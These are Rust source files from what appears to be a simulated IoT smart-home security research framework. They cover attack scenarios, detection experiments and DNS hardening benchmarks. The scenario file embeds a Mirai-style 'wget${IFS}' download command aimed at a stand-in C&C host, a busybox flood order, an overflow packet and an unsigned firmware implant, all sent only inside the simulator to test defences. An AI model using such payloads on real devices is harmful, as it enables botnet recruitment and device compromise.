        format!("{:.1} MHz", hz as f64 / 1e6)
    } else if hz >= 1_000 {
        format!("{:.1} kHz", hz as f64 / 1e3)
    } else {
        format!("{hz} Hz")
    }
}

/// Precision/recall/F1 triple.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Prf {
    /// Precision.
    pub precision: f64,
    /// Recall.
    pub recall: f64,
    /// F1.
    pub f1: f64,
}

/// Computes precision/recall/F1 from (predicted, actual) boolean pairs.
pub fn prf(outcomes: &[(bool, bool)]) -> Prf {
    let tp = outcomes.iter().filter(|&&(p, a)| p && a).count() as f64;
    let fp = outcomes.iter().filter(|&&(p, a)| p && !a).count() as f64;
    let fne = outcomes.iter().filter(|&&(p, a)| !p && a).count() as f64;
    let precision = if tp + fp == 0.0 { 0.0 } else { tp / (tp + fp) };
    let recall = if tp + fne == 0.0 {
        0.0
    } else {
        tp / (tp + fne)
    };
    let f1 = if precision + recall == 0.0 {
        0.0
    } else {
        2.0 * precision * recall / (precision + recall)
    };
    Prf {
        precision,
        recall,
        f1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prf_on_perfect_predictions() {
        let outcomes = vec![(true, true), (false, false), (true, true)];
        let m = prf(&outcomes);
        assert_eq!(m.precision, 1.0);
        assert_eq!(m.recall, 1.0);
        assert_eq!(m.f1, 1.0);
    }

    #[test]
    fn prf_on_misses_and_false_alarms() {
        // 1 TP, 1 FP, 1 FN, 1 TN.
        let outcomes = vec![(true, true), (true, false), (false, true), (false, false)];
        let m = prf(&outcomes);
        assert_eq!(m.precision, 0.5);
        assert_eq!(m.recall, 0.5);
        assert_eq!(m.f1, 0.5);
    }

    #[test]
    fn human_formatting() {
        assert_eq!(human_bytes(512), "512 B");
        assert_eq!(human_bytes(2048), "2.0 KB");
        assert_eq!(human_hz(32_000_000), "32.0 MHz");
        assert_eq!(human_hz(1_200_000_000), "1.20 GHz");
    }
}
