//! Reusable attack scenarios over a standard XLF home, shared by the
//! Figure 4 / Table II harnesses and the Criterion benches.
//!
//! Every scenario is deterministic: same seed → identical trace.

use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf_core::shaping::ShapingMode;
use xlf_device::{SensorKind, VulnSet, Vulnerability};
use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};

/// The attack injected into a scenario run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackScenario {
    /// No attack (benign control).
    None,
    /// Mirai-style recruitment of the weak camera through the gateway
    /// (C&C bootstrap string in the login payload), then a flood order.
    BotnetRecruitFlood,
    /// Oversized command exploiting the wall-pad buffer overflow.
    BufferOverflow,
    /// Unsigned malicious OTA pushed through the gateway.
    FirmwareTamper,
    /// Spoofed high-temperature events fired at the cloud to trigger the
    /// window automation.
    SpoofedEvents,
}

impl AttackScenario {
    /// All scenarios, benign first.
    pub fn all() -> &'static [AttackScenario] {
        &[
            AttackScenario::None,
            AttackScenario::BotnetRecruitFlood,
            AttackScenario::BufferOverflow,
            AttackScenario::FirmwareTamper,
            AttackScenario::SpoofedEvents,
        ]
    }

    /// The device the attack targets (ground truth for detection).
    pub fn target(&self) -> Option<&'static str> {
        match self {
            AttackScenario::None => None,
            AttackScenario::BotnetRecruitFlood => Some("cam"),
            AttackScenario::BufferOverflow => Some("wallpad"),
            AttackScenario::FirmwareTamper => Some("cam"),
            AttackScenario::SpoofedEvents => Some("window"),
        }
    }
}

/// The standard experimental home: thermostat, weak camera, wall pad
/// (overflow-vulnerable), lamp, and a window actuator.
pub fn standard_devices() -> Vec<HomeDevice> {
    vec![
        HomeDevice::new("thermo", SensorKind::Temperature)
            .with_telemetry_period(Duration::from_secs(10)),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[
                Vulnerability::StaticPassword,
                Vulnerability::UnsignedFirmware,
            ]))
            .with_telemetry_period(Duration::from_secs(10)),
        HomeDevice::new("wallpad", SensorKind::Motion)
            .with_vulns(VulnSet::of(&[Vulnerability::BufferOverflow]))
            .with_telemetry_period(Duration::from_secs(15)),
        HomeDevice::new("lamp", SensorKind::Power).with_telemetry_period(Duration::from_secs(20)),
        HomeDevice::new("window", SensorKind::Power).with_telemetry_period(Duration::from_secs(20)),
    ]
}

/// When the learning phase ends and the attack fires.
pub const LEARNING_END_S: u64 = 120;
/// When the attack is injected.
pub const ATTACK_AT_S: u64 = 180;
/// When the scenario run ends.
pub const SCENARIO_END_S: u64 = 420;

const TIMER_GO: u64 = 900;
const TIMER_FLOOD_ORDER: u64 = 901;

/// WAN attacker that runs the selected scenario against the home.
struct ScenarioAttacker {
    gateway: NodeId,
    cloud: NodeId,
    victim_sink: NodeId,
    scenario: AttackScenario,
}

impl Node for ScenarioAttacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(ATTACK_AT_S), TIMER_GO);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
        match (tag, self.scenario) {
            (TIMER_GO, AttackScenario::BotnetRecruitFlood) => {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
                ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
            }
            (TIMER_FLOOD_ORDER, AttackScenario::BotnetRecruitFlood) => {
                let order = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "attack-cmd",
                    b"/bin/busybox MIRAI".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("target", &self.victim_sink.raw().to_string())
                .with_meta("count", "300");
                ctx.send(self.gateway, order);
            }
            (TIMER_GO, AttackScenario::BufferOverflow) => {
                // Exploit attempts rarely come alone: the attacker retries.
                for i in 0..3u64 {
                    let smash = Packet::new(ctx.id(), self.gateway, "cmd", vec![0x90u8; 300])
                        .with_meta("device", "wallpad");
                    ctx.send_after(self.gateway, smash, Duration::from_secs(i));
                }
            }
            (TIMER_GO, AttackScenario::FirmwareTamper) => {
                let image = xlf_device::firmware::FirmwareImage::unsigned(
                    xlf_device::firmware::Version(9, 9, 9),
                    "mallory",
                    b"BOTNET implant".to_vec(),
                );
                for i in 0..3u64 {
                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
                        .with_meta("device", "cam");
                    ctx.send_after(self.gateway, ota, Duration::from_secs(i));
                }
            }
            (TIMER_GO, AttackScenario::SpoofedEvents) => {
                for i in 0..10 {
                    let spoof = Packet::new(ctx.id(), self.cloud, "spoofed-event", Vec::new())
                        .with_meta("device", "thermo")
                        .with_meta("attribute", "temperature")
                        .with_meta("value", &format!("{}", 95 + i));
                    ctx.send(self.cloud, spoof);
                }
            }
            _ => {}
        }
    }
}

/// Passive WAN sink standing in for a DDoS victim.
struct VictimSink;
impl Node for VictimSink {}

/// Builds and runs one scenario; returns the finished home (inspect the
/// Core, gateway, and devices for outcomes).
pub fn run_scenario(seed: u64, mut config: XlfConfig, scenario: AttackScenario) -> XlfHome {
    config.learning_period = Duration::from_secs(LEARNING_END_S);
    let mut home = XlfHome::build(seed, config, &standard_devices());

    // Install the §IV-C3 automation: open the window when the thermostat
    // reports above 80°F. The diurnal simulation peaks at ~78°F, so only
    // spoofed/manipulated readings ever fire it.
    {
        use xlf_cloud::smartapp::{Action, AppPermissions, Predicate, SmartApp, Trigger};
        let cloud = home
            .net
            .node_as_mut::<xlf_cloud::CloudNode>(home.cloud)
            .expect("cloud node");
        cloud.cloud_mut().install_app(
            SmartApp::new(
                "auto-window",
                AppPermissions::new().grant("window", xlf_cloud::Capability::Switch),
            )
            .rule(
                Trigger {
                    device: "thermo".into(),
                    attribute: "temperature".into(),
                    predicate: Predicate::GreaterThan(80.0),
                },
                Action {
                    device: "window".into(),
                    command: "on".into(),
                },
            ),
        );
    }

    let victim = home.net.add_node(Box::new(VictimSink));
    home.net
        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));

    let attacker = home.net.add_node(Box::new(ScenarioAttacker {
        gateway: home.gateway,
        cloud: home.cloud,
        victim_sink: victim,
        scenario,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net
        .connect(attacker, home.cloud, Medium::Wan.link().with_loss(0.0));

    home.net.run_until(SimTime::from_secs(SCENARIO_END_S));
    // Final evaluation sweep so late evidence is fused.
    home.core
        .borrow_mut()
        .evaluate(SimTime::from_secs(SCENARIO_END_S));
    home
}

/// A benign-but-busy configuration used for shaping/DPI benches: full
/// mechanisms with padding enabled.
pub fn shaped_config(bucket: usize) -> XlfConfig {
    let mut config = XlfConfig::full();
    config.shaping = ShapingMode::PadAndDelay {
        bucket,
        max_delay: Duration::from_millis(100),
    };
    config
}

#[cfg(test)]
mod tests {
    use super::*;
    use xlf_core::alerts::Severity;

    #[test]
    fn benign_scenario_raises_no_critical_alerts() {
        let home = run_scenario(1, XlfConfig::full(), AttackScenario::None);
        assert!(home
            .core
            .borrow()
            .alerts
            .at_least(Severity::Critical)
            .is_empty());
    }

    #[test]
    fn botnet_scenario_is_critically_flagged_under_full_xlf() {
        let home = run_scenario(1, XlfConfig::full(), AttackScenario::BotnetRecruitFlood);
        let core = home.core.borrow();
        assert!(
            core.alerts.has_alert("cam", Severity::Critical),
            "alerts: {:?}",
            core.alerts.alerts()
        );
    }

    #[test]
    fn firmware_tamper_is_blocked_and_flagged() {
        let home = run_scenario(1, XlfConfig::full(), AttackScenario::FirmwareTamper);
        // Gateway vetting blocked the image, so the camera stays clean.
        assert!(!home.device_ref("cam").is_compromised());
        assert!(home
            .core
            .borrow()
            .store
            .all()
            .iter()
            .any(|e| e.kind == xlf_core::EvidenceKind::FirmwareRejected));
    }

    #[test]
    fn undefended_home_lets_the_attacks_through() {
        let home = run_scenario(1, XlfConfig::off(), AttackScenario::BotnetRecruitFlood);
        assert!(home.device_ref("cam").is_compromised());
        let tampered = run_scenario(1, XlfConfig::off(), AttackScenario::FirmwareTamper);
        assert!(tampered.device_ref("cam").is_compromised());
    }
}
