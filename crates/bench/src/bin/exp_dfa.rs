//! E-M5 — behavioural DFA monitoring (§IV-B3/§IV-C2): learn per-device
//! automata from benign traces, then measure detection and false-alarm
//! rates on held-out benign traffic and on injected misbehaviour
//! (compromise transitions, spoof-driven commands).

use xlf_analytics::dfa::Dfa;
use xlf_bench::print_table;

type Trace = Vec<(String, String, String)>;

fn t(s: &str, sym: &str, n: &str) -> (String, String, String) {
    (s.to_string(), sym.to_string(), n.to_string())
}

/// Benign daily cycle of a camera: idle ↔ streaming via user commands,
/// plus off/on at night.
fn benign_day(variant: usize) -> Trace {
    let mut trace = Vec::new();
    for hour in 0..24 {
        match (hour + variant) % 6 {
            0 => {
                trace.push(t("idle", "cmd:stream", "streaming"));
                trace.push(t("streaming", "cmd:idle", "idle"));
            }
            3 => {
                trace.push(t("idle", "cmd:off", "off"));
                trace.push(t("off", "cmd:on", "active"));
                trace.push(t("active", "cmd:idle", "idle"));
            }
            _ => {
                trace.push(t("idle", "telemetry", "idle"));
            }
        }
    }
    trace
}

/// Attack traces: each misbehaviour class the paper's monitors target.
fn attack_traces() -> Vec<(&'static str, Trace)> {
    vec![
        (
            "exploit → compromised",
            vec![
                t("idle", "telemetry", "idle"),
                t("idle", "exploit", "compromised"),
                t("compromised", "cnc", "flooding"),
            ],
        ),
        (
            "spoof-driven streaming at 3AM",
            vec![
                t("off", "cmd:stream", "streaming"),
                t("streaming", "exfil", "streaming"),
            ],
        ),
        (
            "firmware implant reboot loop",
            vec![
                t("idle", "reboot", "off"),
                t("off", "reboot", "off"),
                t("off", "implant", "compromised"),
            ],
        ),
    ]
}

fn main() {
    // Train on 20 benign days (with schedule variants), hold out 10 more.
    let mut dfa = Dfa::new();
    dfa.min_support = 2;
    for day in 0..20 {
        dfa.train(&benign_day(day));
    }

    let mut rows = Vec::new();
    let mut benign_rates = Vec::new();
    for day in 20..30 {
        benign_rates.push(dfa.anomaly_rate(&benign_day(day)));
    }
    let false_alarm = benign_rates.iter().sum::<f64>() / benign_rates.len() as f64;
    rows.push(vec![
        "benign (10 held-out days)".to_string(),
        format!("{:.1}%", false_alarm * 100.0),
        "false-alarm rate".to_string(),
    ]);
    for (name, trace) in attack_traces() {
        let rate = dfa.anomaly_rate(&trace);
        rows.push(vec![
            name.to_string(),
            format!("{:.1}%", rate * 100.0),
            "detection (anomalous transitions)".to_string(),
        ]);
    }
    print_table(
        "E-M5 — Behavioural DFA: anomaly rate per trace class (§IV-B3)",
        &["Trace", "Anomaly rate", "Interpretation"],
        &rows,
    );
    println!(
        "\nLearned automaton: {} states, {} transitions, min support {}.",
        dfa.state_count(),
        dfa.transition_count(),
        dfa.min_support
    );
    println!(
        "Shape check: held-out benign days score ≈0% while every misbehaviour\n\
         class scores far above it — the separation the HoMonit-style monitor\n\
         relies on."
    );
}
