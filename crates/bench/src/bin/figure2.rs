//! E-F2 — regenerates **Figure 2** (IoT network protocols mapped to the
//! TCP/IP stack), exercising one live code path per protocol so the
//! mapping is demonstrably implemented, not just printed.

use xlf_bench::print_table;
use xlf_protocols::dns::{encode_query, encode_response, DnsTransport};
use xlf_protocols::ieee802154::{FrameReceiver, FrameSender, SecurityLevel};
use xlf_protocols::rest::{Method, Request};
use xlf_protocols::ssdp::SsdpMessage;
use xlf_protocols::stack::stack_map;
use xlf_protocols::tls::{Role, Session};
use xlf_simnet::Medium;

/// Exercises the protocol behind a Figure 2 entry; returns a one-line
/// proof of life.
fn exercise(protocol: &str) -> String {
    match protocol {
        "IEEE 802.15.4 (ZigBee)" => {
            let mut tx = FrameSender::new(1, b"netkey");
            let mut rx = FrameReceiver::new(b"netkey", &[1]);
            let frame = tx.secure(SecurityLevel::EncMic, b"on");
            let ok = rx.receive(&frame).is_ok();
            format!("ENC-MIC frame roundtrip: {ok}")
        }
        "Z-Wave" => format!(
            "media model: {} bps, {} MTU",
            Medium::Zwave.bandwidth_bps(),
            Medium::Zwave.mtu()
        ),
        "WiFi (802.11)" => format!(
            "media model: {} Mbps, {:?} latency",
            Medium::Wifi.bandwidth_bps() / 1_000_000,
            Medium::Wifi.latency()
        ),
        "Bluetooth LE" => format!("media model: {} MTU", Medium::Ble.mtu()),
        "Ethernet" => format!(
            "media model: {} Gbps",
            Medium::Ethernet.bandwidth_bps() / 1_000_000_000
        ),
        "6LoWPAN" => format!("adaptation: {} MTU over 802.15.4", Medium::SixLowpan.mtu()),
        "IPv4/IPv6" => "NodeId addressing + link routing in xlf-simnet".to_string(),
        "UDP" => "Protocol::Udp datagrams (see DDoS flood path)".to_string(),
        "TCP" => "Protocol::Tcp segments (see API traffic)".to_string(),
        "TLS / DTLS" => {
            let mut c = Session::establish(b"psk", "fig2", Role::Client);
            let mut s = Session::establish(b"psk", "fig2", Role::Server);
            let rec = c.seal(b"hello").expect("seal");
            format!("record roundtrip: {}", s.open(&rec).is_ok())
        }
        "DNS (+DoT/DoH)" => {
            let q = encode_query(DnsTransport::DoT, "hub.vendor.example", 7, b"s");
            let decoded = encode_response(DnsTransport::DoT, &q, b"s").is_some();
            format!(
                "DoT query hides qname ({}), decodes at endpoint: {decoded}",
                q.observable_qname.is_none()
            )
        }
        "HTTP/REST" => {
            let req = Request::new(Method::Get, "/devices").with_token("t");
            let ok = Request::from_bytes(&req.to_bytes()).is_some();
            format!("request roundtrip: {ok}")
        }
        "SSDP/UPnP" => {
            let msg = SsdpMessage::notify("urn:x:tv:1", "uuid:tv");
            let ok = SsdpMessage::from_bytes(&msg.to_bytes()).is_some();
            format!("NOTIFY roundtrip: {ok}")
        }
        "MQTT-style telemetry" => "periodic telemetry packets from SimDevice".to_string(),
        other => format!("(no exerciser for {other})"),
    }
}

fn main() {
    let rows: Vec<Vec<String>> = stack_map()
        .into_iter()
        .map(|entry| {
            vec![
                entry.layer.name().to_string(),
                entry.protocol.to_string(),
                entry.implemented_by.to_string(),
                exercise(entry.protocol),
            ]
        })
        .collect();
    print_table(
        "Figure 2 — IoT protocols on the TCP/IP stack (implemented + exercised)",
        &["Stack layer", "Protocol", "Implemented by", "Exercised"],
        &rows,
    );
}
