//! E-M2 — DNS privacy and constrained access (§IV-A3): which DNS
//! transports constrained devices can afford, what each leaks to a
//! passive observer, and how resolver hardening changes cache-poisoning
//! outcomes.

use xlf_attacks::dnspoison::{poison, Position};
use xlf_bench::print_table;
use xlf_device::{DeviceClass, DeviceSpec};
use xlf_protocols::dns::{encode_query, DnsTransport, Resolver, ResolverConfig};
use xlf_simnet::SimTime;

fn main() {
    // Part 1: transport feasibility per device class + observer leakage.
    let transports = [
        DnsTransport::Plain,
        DnsTransport::DoT,
        DnsTransport::DoH,
        DnsTransport::XlfLightweight,
    ];
    let device_classes = [
        DeviceClass::SensorDevice,
        DeviceClass::PhilipsHueLightbulb,
        DeviceClass::NestLearningThermostat,
        DeviceClass::Iphone6sPlus,
    ];
    let mut rows = Vec::new();
    for transport in transports {
        let q = encode_query(transport, "nest.vendor.example", 7, b"session");
        let mut cells = vec![
            format!("{transport:?}"),
            if q.observable_qname.is_some() {
                "qname VISIBLE".to_string()
            } else {
                "qname hidden".to_string()
            },
            format!("{} B", q.wire_size),
            transport.device_cycles_per_query().to_string(),
        ];
        for class in device_classes {
            let spec = DeviceSpec::of(class);
            // Affordable when one query costs under 0.1% of a second of CPU.
            let affordable =
                transport.device_cycles_per_query() as f64 <= spec.core_hz as f64 * 0.001;
            cells.push(if affordable { "✓" } else { "too costly" }.to_string());
        }
        rows.push(cells);
    }
    print_table(
        "E-M2a — DNS transports: privacy, overhead, and device feasibility",
        &[
            "Transport",
            "Observer sees",
            "Wire size",
            "Cycles/query",
            "Sensor (16MHz)",
            "Hue bulb (32MHz)",
            "Thermostat (800MHz)",
            "Phone (1.85GHz)",
        ],
        &rows,
    );

    // Part 2: poisoning outcomes by resolver posture × attacker position.
    type MakeResolver = fn() -> Resolver;
    let postures: [(&str, MakeResolver); 3] = [
        ("naive (IoT default)", || {
            Resolver::new(ResolverConfig::naive())
        }),
        ("txid checking", || {
            Resolver::new(ResolverConfig {
                check_txid: true,
                validate_dnssec: false,
            })
        }),
        ("XLF hardened (txid+DNSSEC)", || {
            let mut r = Resolver::new(ResolverConfig::hardened());
            r.add_trust_anchor("vendor.example", b"zone secret");
            r
        }),
    ];
    let mut rows = Vec::new();
    for (name, make) in postures {
        let mut cells = vec![name.to_string()];
        for (pos_name, position) in [
            ("off-path ×50", Position::OffPath { attempts: 50 }),
            ("on-path", Position::OnPath),
        ] {
            let mut resolver = make();
            let result = poison(
                &mut resolver,
                "hub.vendor.example",
                position,
                7,
                SimTime::ZERO,
            );
            cells.push(format!(
                "{} ({} spoofs)",
                if result.poisoned { "POISONED" } else { "safe" },
                result.responses_sent
            ));
            let _ = pos_name;
        }
        rows.push(cells);
    }
    print_table(
        "E-M2b — Cache poisoning by resolver posture × attacker position",
        &["Resolver", "Off-path attacker", "On-path attacker"],
        &rows,
    );
    println!(
        "\nShape check: plain DNS leaks every query name and the naive resolver\n\
         falls to a single blind spoof; the XLF-bridged lightweight transport\n\
         gets DoT-class privacy at ~{}× lower device cost than DoT itself.",
        DnsTransport::DoT.device_cycles_per_query()
            / DnsTransport::XlfLightweight.device_cycles_per_query()
    );
}
